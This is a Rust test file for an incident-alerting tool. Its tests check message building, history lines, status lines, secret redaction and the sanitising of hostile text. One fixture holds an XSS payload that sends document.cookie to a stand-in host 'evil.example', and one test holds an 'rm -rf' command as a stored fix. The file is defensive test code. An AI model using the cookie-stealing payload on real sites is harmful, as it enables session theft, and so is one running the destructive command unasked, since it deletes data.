use super::*;
use crate::analyst::samples::*;
use crate::analyst::{Explained, SimilarIncident, explain};
use crate::clock::Timestamp;
use crate::incident::{Action, EndedBy, Incident, Status};
use crate::notification::{Reason, ReasonKey};
use crate::playbook::Playbooks;
use std::sync::LazyLock;

fn explained(incident: &Incident, similar: &[SimilarIncident]) -> Explained {
    static PLAYBOOKS: LazyLock<Playbooks> = LazyLock::new(Playbooks::builtin);
    explain(incident, similar, &PLAYBOOKS)
}

fn now() -> Timestamp {
    at("2026-03-14T02:15:00Z")
}

/// The message about an incident, after `with` has added to what is known.
fn message(incident: &Incident, with: impl FnOnce(&mut MessageInput<'_>)) -> Message {
    let explained = explained(incident, &[]);
    let mut input = MessageInput::new(incident, &explained, now());
    with(&mut input);
    build(&input)
}

#[test]
fn a_new_script_is_told_like_this() {
    insta::assert_snapshot!(render_text(&message(&xss(), |_| {})), @r#"
    ERROR · shop · Script in query.q: <script>fetch('//evil.example/'+document.cookie)</script>
    New here

    Incident #123 — Script in query.q: <script>fetch('//evil.example/'+document.cookie)</script> (xss)
    Status     Open, not acknowledged · 1 event, 14 Mar 02:10 UTC
    Summary    Script sent to shop in prod by 203.0.113.9: “<script>fetch('//evil.example/'+document.cookie)</script>”
               since 14 Mar 02:10 UTC. The text breaks out of an attribute or a tag and brings its own handler or script.
               Confidence: medium (0.62).
    Causes     1. A query or form parameter is echoed into the page unescaped (E1) - fixes: Repeat the request against
               staging with the harmless marker <b>xx</b> and look whether the answer holds it unescaped, Until the
               template escapes it, block the pattern for that one path at the proxy or WAF
               2. Input is stored and shown to other users without escaping (E1) - fixes: Open the page that shows this
               field as a test user with JavaScript off, and look whether the text stands there as markup, Send
               Content-Security-Policy-Report-Only for that page first, then enforce script-src 'self' once the reports
               are clean
               3. Somebody probes forms and parameters, by hand or with a scanner (E1) - fixes: Count its answers by
               status: grep -F '203.0.113.9' access.log | awk '{print $9}' | sort | uniq -c, Limit the rate of 203.0.113.9
               at the edge for an hour
    Actions    [Acknowledge] [Request More Info] [Mark as Resolved] [False Positive] [Add Solution]
    Note       analysis without a language model
    "#);
}

#[test]
fn a_database_timeout_with_a_past_a_change_and_relations_is_told_like_this() {
    let mut incident = db_timeout();
    incident.id = 124;
    incident.previous_incident_id = Some(12);
    let similar = [confirmed_fix()];
    let explained = explained(&incident, &similar);
    let changes = [Change { what: "checkout v1.2.3".to_owned(), at: at("2026-03-14T02:06:00Z") }];
    let related = [RelatedIncident {
        incident_id: 125,
        service: "orders".to_owned(),
        summary: "Database connection timeout".to_owned(),
        reason: "shares database pg-main".to_owned(),
    }];
    let input = MessageInput {
        similar: &similar,
        seen_before: 4,
        last_time: Some(&similar[0]),
        changes: &changes,
        related: &related,
        team: Some("Payments"),
        possible_repeat: true,
        public_url: Some("https://foghorn.example.org/"),
        ..MessageInput::new(&incident, &explained, now())
    };
    let message = build(&input);
    insta::assert_snapshot!(serde_json::to_string_pretty(&message).unwrap(), @r##"
    {
      "headline": "CRITICAL · checkout · Database connection timeout after <num>ms: QueuePool limit reached",
      "history": "Seen 4×; last 12 Mar, ana: raised max_connections from 100 to 200; quiet after 6 min",
      "change": "Changed 4 min before: checkout v1.2.3",
      "reason": null,
      "title": "*Incident #124* — Database connection timeout after <num>ms: QueuePool limit reached (Payments, db_timeout)",
      "status_line": "Open, not acknowledged · 1,000 events since 14 Mar 02:10 UTC, the last 1 min ago · follows incident #12",
      "ai_summary": "The database answers checkout in prod too late, after 30,000 ms, 1,000× since 14 Mar 02:10 UTC. What timed out is the wait for a connection, before any query was sent. Confidence: high (0.86).",
      "causes": [
        "1. Every connection of the pool is taken (E1, M1) - fixes: What fixed incident 12 (ana, 12 Mar): “raised max_connections from 100 to 200”, Look who holds connections: psql -c \"select usename, application_name, state, count(*) from pg_stat_activity group by 1,2,3 order by 4 desc\"",
        "2. The database cannot be reached in time, by network, name service or failover (E1) - fixes: From a machine of checkout: pg_isready -h DBHOST -t 3, then getent hosts DBHOST, Look at the database's machine for load, disk and failover since 14 Mar 02:10 UTC; if a failover happened, restart one replica of checkout so that it looks the name up anew",
        "3. The database is overloaded as a whole, by a batch job, a backup or vacuum - fixes: Look at CPU, disk latency and running jobs: psql -c \"select pid, backend_type, now()-query_start as age, left(query,80) from pg_stat_activity where state='active' order by 3 desc\", Pause the batch job that started around 14 Mar 02:10 UTC, if there is one"
      ],
      "similar": [
        "M1 #12 (similarity 0.91): checkout: connection pool exhausted — fixed by: raised max_connections from 100 to 200 (ana, 12 Mar, quiet after 6 min)"
      ],
      "related": [
        "#125 orders: Database connection timeout (shares database pg-main)"
      ],
      "actions": [
        {
          "action_id": "ack",
          "label": "Acknowledge",
          "value": "124"
        },
        {
          "action_id": "info",
          "label": "Request More Info",
          "value": "124"
        },
        {
          "action_id": "resolve",
          "label": "Mark as Resolved",
          "value": "124"
        },
        {
          "action_id": "false_positive",
          "label": "False Positive",
          "value": "124"
        },
        {
          "action_id": "add_solution",
          "label": "Add Solution",
          "value": "124"
        }
      ],
      "marked": "analysis without a language model; this may repeat an earlier message: whether that one arrived could not be found out",
      "link": "https://foghorn.example.org/incidents/124"
    }
    "##);
    insta::assert_snapshot!(render_text(&message), @r#"
    CRITICAL · checkout · Database connection timeout after <num>ms: QueuePool limit reached
    Seen 4×; last 12 Mar, ana: raised max_connections from 100 to 200; quiet after 6 min
    Changed 4 min before: checkout v1.2.3

    Incident #124 — Database connection timeout after <num>ms: QueuePool limit reached (Payments, db_timeout)
    Status     Open, not acknowledged · 1,000 events since 14 Mar 02:10 UTC, the last 1 min ago · follows incident #12
    Summary    The database answers checkout in prod too late, after 30,000 ms, 1,000× since 14 Mar 02:10 UTC. What timed
               out is the wait for a connection, before any query was sent. Confidence: high (0.86).
    Causes     1. Every connection of the pool is taken (E1, M1) - fixes: What fixed incident 12 (ana, 12 Mar): “raised
               max_connections from 100 to 200”, Look who holds connections: psql -c "select usename, application_name,
               state, count(*) from pg_stat_activity group by 1,2,3 order by 4 desc"
               2. The database cannot be reached in time, by network, name service or failover (E1) - fixes: From a
               machine of checkout: pg_isready -h DBHOST -t 3, then getent hosts DBHOST, Look at the database's machine
               for load, disk and failover since 14 Mar 02:10 UTC; if a failover happened, restart one replica of checkout
               so that it looks the name up anew
               3. The database is overloaded as a whole, by a batch job, a backup or vacuum - fixes: Look at CPU, disk
               latency and running jobs: psql -c "select pid, backend_type, now()-query_start as age, left(query,80) from
               pg_stat_activity where state='active' order by 3 desc", Pause the batch job that started around 14 Mar
               02:10 UTC, if there is one
    Similar    M1 #12 (similarity 0.91): checkout: connection pool exhausted — fixed by: raised max_connections from 100
               to 200 (ana, 12 Mar, quiet after 6 min)
    Told with  #125 orders: Database connection timeout (shares database pg-main)
    Actions    [Acknowledge] [Request More Info] [Mark as Resolved] [False Positive] [Add Solution]
    Note       analysis without a language model; this may repeat an earlier message: whether that one arrived could not
               be found out
    Page       https://foghorn.example.org/incidents/124
    "#);
}

#[test]
fn the_history_says_how_often_and_what_helped_last_time() {
    let (incident, explained) = (db_timeout(), explained(&db_timeout(), &[]));
    let check = |seen_before, last_time: Option<SimilarIncident>, expected| {
        let last_time = last_time.as_ref();
        let input = MessageInput { seen_before, last_time, ..MessageInput::new(&incident, &explained, now()) };
        assert_eq!(build(&input).history, expected);
    };
    let last = confirmed_fix;
    check(0, None, "New here");
    check(2, None, "Seen 2×");
    check(4, Some(last()), "Seen 4×; last 12 Mar, ana: raised max_connections from 100 to 200; quiet after 6 min");
    check(
        4,
        Some(SimilarIncident { solution: None, outcome: None, author: None, ..last() }),
        "Seen 4×; last 12 Mar, no fix written down",
    );
    check(
        1,
        Some(SimilarIncident { confirmed: false, outcome: None, ..last() }),
        "Seen 1×; last 12 Mar, no confirmed fix",
    );
    check(
        1,
        Some(SimilarIncident { author: None, resolved_at: None, outcome: None, ..last() }),
        "Seen 1×; last time: raised max_connections from 100 to 200",
    );
}

#[test]
fn the_history_offers_the_fix_of_the_one_most_like_it_where_its_own_has_none() {
    let (incident, explained) = (db_timeout(), explained(&db_timeout(), &[]));
    let check = |last_time: Option<SimilarIncident>, similar: &[SimilarIncident], expected| {
        let (last_time, seen_before) = (last_time.as_ref(), u64::from(last_time.is_some()));
        let input = MessageInput { seen_before, last_time, similar, ..MessageInput::new(&incident, &explained, now()) };
        assert_eq!(build(&input).history, expected);
    };
    let like = |similarity| SimilarIncident { similarity, outcome: None, ..confirmed_fix() };
    let fix = "12 Mar, ana: raised max_connections from 100 to 200";
    check(None, &[like(0.71)], format!("New here; like #12 (0.71), {fix}"));
    check(None, &[like(0.34)], format!("New here; a little like #12 (0.34), {fix}"));
    check(None, &[SimilarIncident { confirmed: false, ..like(0.9) }], "New here".to_owned());
    check(Some(like(1.0)), &[like(1.0), like(0.9)], format!("Seen 1×; last {fix}"));
    let bare = SimilarIncident { solution: None, author: None, ..like(1.0) };
    let expected = format!("Seen 1×; last 12 Mar, no fix written down; like #12 (0.71), {fix}");
    check(Some(bare), &[like(0.71)], expected);
    let risky = SimilarIncident { solution: Some("rm -rf /var/cache/app".to_owned()), author: None, ..like(0.6) };
    check(None, &[risky], "New here; like #12 (0.60), 12 Mar: check before use: rm -rf /var/cache/app".to_owned());
}

#[test]
fn only_the_latest_change_of_the_hour_before_is_named() {
    let changed = |times: &[&str]| {
        let changes: Vec<Change> = times
            .iter()
            .map(|time| Change { what: format!("deploy at {time}"), at: at(&format!("2026-03-14T{time}:00Z")) })
            .collect();
        let (incident, explained) = (db_timeout(), explained(&db_timeout(), &[]));
        build(&MessageInput { changes: &changes, ..MessageInput::new(&incident, &explained, now()) }).change
    };
    let check = |times: &[&str], expected: Option<&str>| assert_eq!(changed(times).as_deref(), expected, "{times:?}");
    check(&[], None);
    check(&["02:06"], Some("Changed 4 min before: deploy at 02:06"));
    check(&["02:11"], None);
    check(&["01:09"], None);
    check(&["01:10", "02:09", "01:30"], Some("Changed 1 min before: deploy at 02:09 (and 2 more)"));
}

#[test]
fn every_reason_to_tell_again_is_said() {
    let check = |reason, expected: Option<&str>| {
        let mut incident = db_timeout();
        incident.still_firing_since = Some(at("2026-03-14T01:02:00Z"));
        assert_eq!(message(&incident, |input| input.reason = reason).reason.as_deref(), expected);
    };
    check(Reason::Opened, None);
    check(Reason::SeverityRaised, Some("Severity raised: it is critical now"));
    check(Reason::Reopened, Some("Reopened: it had ended and is back"));
    check(
        Reason::StillFiring,
        Some("Still firing: it was resolved, and its source has fired on since 14 Mar 01:02 UTC"),
    );
    check(Reason::Unacknowledged, Some("Not acknowledged: nobody has taken it in 5 min"));
    check(Reason::SilenceEnded, Some("Silence ended: it has gone on for 5 min and still does"));
}

#[test]
fn what_had_held_it_back_is_named() {
    let check = |occurrence: &str, expected: &str| {
        let key = ReasonKey { reason: Reason::SilenceEnded, occurrence: occurrence.to_owned() };
        let reason = message(&db_timeout(), |input| {
            (input.reason, input.let_go_by) = (key.reason, key.let_go_by());
        });
        let expected = format!("{expected}: it has gone on for 5 min and still does");
        assert_eq!(reason.reason, Some(expected), "{occurrence}");
    };
    check("silence:7#1", "Silence ended");
    check("outgrown:silence:7#1", "Grew beyond its silence");
    check("maintenance#2", "Maintenance ended");
    check("inhibition:12#1", "No longer muted by incident 12");
    check("inhibition:#1", "No longer muted by another incident");
    check("", "Silence ended");
}

#[test]
fn the_status_line_says_who_did_what_and_how_it_ended() {
    let check = |status, ended_by, acted: Option<(&str, Action)>, expected: &str| {
        let mut incident = db_timeout();
        (incident.status, incident.ended_by) = (status, ended_by);
        let acted = acted.map(|(who, what)| Acted { who: who.to_owned(), what, when: at("2026-03-14T02:12:00Z") });
        let explained = explained(&incident, &[]);
        let line = build(&MessageInput { acted: acted.as_ref(), ..MessageInput::new(&incident, &explained, now()) })
            .status_line;
        assert_eq!(line, format!("{expected} · 1,000 events since 14 Mar 02:10 UTC, the last 1 min ago"));
    };
    check(Status::Open, None, None, "Open");
    check(Status::Notified, None, None, "Open, not acknowledged");
    check(Status::Notified, None, Some(("ana", Action::Reopen)), "Reopened by ana, 3 min ago");
    check(Status::Acknowledged, None, Some(("ana", Action::Ack)), "Acknowledged by ana, 3 min ago");
    check(Status::Acknowledged, None, Some(("ana", Action::Info)), "Acknowledged");
    check(
        Status::NeedsInfo,
        None,
        Some(("b\u{202e}ob\n", Action::Info)),
        "More information asked for by bob, 3 min ago",
    );
    check(Status::Resolved, Some(EndedBy::Person), Some(("ana", Action::Resolve)), "Resolved by ana, 3 min ago");
    check(Status::Resolved, Some(EndedBy::Source), None, "Over: its source says so");
    check(Status::Resolved, Some(EndedBy::Quiet), None, "Over: quiet since 14 Mar 02:14 UTC");
    check(
        Status::FalsePositive,
        Some(EndedBy::Person),
        Some(("ana", Action::FalsePositive)),
        "False positive, marked by ana, 3 min ago",
    );
}

#[test]
fn flapping_and_a_source_that_fires_on_stand_in_the_status_line() {
    let mut incident = db_timeout();
    incident.still_firing_since = Some(at("2026-03-14T02:12:00Z"));
    incident.flapping_since = Some(at("2026-03-14T02:13:00Z"));
    let line = message(&incident, |_| {}).status_line;
    assert!(line.contains("still firing since 14 Mar 02:12 UTC · flapping since 14 Mar 02:13 UTC"), "{line}");
}

#[test]
fn the_buttons_are_those_that_would_change_something() {
    let check = |status, expected: &[&str]| {
        let mut incident = xss();
        incident.status = status;
        let actions = message(&incident, |_| {}).actions;
        assert!(actions.iter().all(|button| button.value == "123" && !button.label.is_empty()));
        let ids: Vec<&str> = actions.iter().map(|button| &button.action_id[..]).collect();
        assert_eq!(ids, expected, "{status}");
    };
    check(Status::Open, &["ack", "info", "resolve", "false_positive", "add_solution"]);
    check(Status::Acknowledged, &["info", "resolve", "false_positive", "add_solution"]);
    check(Status::NeedsInfo, &["ack", "resolve", "false_positive", "add_solution"]);
    check(Status::Resolved, &["reopen", "add_solution"]);
    check(Status::FalsePositive, &["reopen", "add_solution"]);
}

#[test]
fn a_language_models_analysis_is_not_marked() {
    let mut explained = explained(&xss(), &[]);
    explained.analysis.source = crate::analysis::AnalysisSource::Model;
    let incident = xss();
    assert_eq!(build(&MessageInput::new(&incident, &explained, now())).marked, None);
}

#[test]
fn secrets_in_outside_text_do_not_reach_the_message() {
    let secret = "password=hunter2-hunter2";
    let (mut incident, mut explained) = (db_timeout(), explained(&db_timeout(), &[]));
    incident.summary = format!("cannot log in with {secret}");
    explained.analysis.summary = secret.to_owned();
    explained.analysis.root_causes[0].fixes[0] = secret.to_owned();
    // An invisible character inside the name must not hide the secret either.
    let hidden = "pass\u{200b}word=hunter2-hunter2";
    let similar =
        [SimilarIncident { solution: Some(hidden.to_owned()), summary: secret.to_owned(), ..confirmed_fix() }];
    let changes = [Change { what: secret.to_owned(), at: incident.first_seen }];
    let input = MessageInput {
        similar: &similar,
        last_time: Some(&similar[0]),
        changes: &changes,
        ..MessageInput::new(&incident, &explained, now())
    };
    let message = serde_json::to_string(&build(&input)).unwrap();
    assert!(!message.contains("hunter2"), "{message}");
    assert!(message.matches("[REDACTED:").count() >= 7, "{message}");
}

#[test]
fn however_long_and_hostile_the_text_every_part_stays_within_its_bounds() {
    let long = "\u{1b}]0;x\u{7}a\u{202e}b\u{200b}\r\n<!channel> ".repeat(1_000);
    let mut incident = db_timeout();
    (incident.service, incident.summary) = (long.clone(), long.clone());
    incident.evidence[0].text = long.clone();
    let similar = vec![
        SimilarIncident {
            id: long.clone(),
            incident_id: None,
            summary: long.clone(),
            solution: Some(long.clone()),
            author: Some(long.clone()),
            outcome: Some(long.clone()),
            similarity: f32::NAN,
            ..confirmed_fix()
        };
        20
    ];
    let mut explained = explained(&incident, &similar);
    explained.analysis.summary = long.clone();
    for cause in &mut explained.analysis.root_causes {
        (cause.cause, cause.fixes, cause.evidence) = (long.clone(), vec![long.clone(); 9], vec![long.clone(); 9]);
    }
    let changes = [Change { what: long.clone(), at: incident.first_seen }];
    let acted = Acted { who: long.clone(), what: Action::Ack, when: incident.first_seen };
    let related =
        RelatedIncident { incident_id: 1, service: long.clone(), summary: long.clone(), reason: long.clone() };
    let related = vec![related; 500];
    incident.status = Status::Acknowledged;
    let message = build(&MessageInput {
        similar: &similar,
        last_time: Some(&similar[0]),
        changes: &changes,
        related: &related,
        acted: Some(&acted),
        team: Some(&long),
        ..MessageInput::new(&incident, &explained, now())
    });
    let check = |text: &str, limit: usize| {
        assert!(text.chars().count() <= limit, "{} over {limit}: {text}", text.chars().count());
        assert!(!text.contains(|character: char| character.is_control() || "\u{202e}\u{200b}".contains(character)));
    };
    check(&message.headline, MAX_HEADLINE);
    for line in [&message.history, &message.status_line].into_iter().chain(&message.change) {
        check(line, MAX_LINE);
    }
    check(&message.ai_summary, MAX_SUMMARY);
    for entry in [&message.title].into_iter().chain(&message.similar).chain(&message.related) {
        check(entry, MAX_ENTRY);
    }
    message.causes.iter().for_each(|cause| check(cause, MAX_CAUSE));
    assert_eq!((message.causes.len(), message.similar.len(), message.related.len()), (3, 3, MAX_RELATED + 1));
    assert!(render_text(&message).lines().all(|line| line.chars().count() <= 118));
}

#[test]
fn a_stored_message_cannot_command_the_terminal() {
    let mut message = message(&xss(), |_| {});
    message.headline = "\u{1b}[2Jgone\rback".to_owned();
    message.link = Some("https://x\u{9b}31m".to_owned());
    let drawn = render_text(&message);
    assert!(drawn.starts_with("gone back\n"));
    assert!(!drawn.contains(|character: char| character.is_control() && character != '\n'));
}
